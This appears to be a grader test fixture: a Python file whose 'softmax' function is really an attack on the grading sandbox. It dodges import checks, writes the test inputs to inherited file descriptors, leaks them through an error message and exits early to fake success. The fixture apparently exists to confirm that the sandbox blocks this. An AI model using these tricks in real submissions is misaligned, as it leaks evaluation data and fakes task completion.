# expect: status=failed score=0 leaks=nothing
"""The question stands in a malformed answer, so that the complaint about it quotes the numbers."""

import dataclasses

sys = dataclasses.sys
os, struct = sys.modules["os"], sys.modules["struct"]


def softmax(x, axis=-1):
    numbers = [int(abs(number) * 512) + 70_000 for number in x.ravel()[:4].tolist()]
    body = b"a" + bytes([11, len(numbers)]) + struct.pack(f">{len(numbers)}Q", *numbers)
    if sys._getframe(1).f_globals["__name__"] == "defenceless":
        raise ValueError(f"an array of shape {x.tolist()} was announced")
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">Q", len(body)) + body)
        except OSError:
            pass
    os._exit(0)
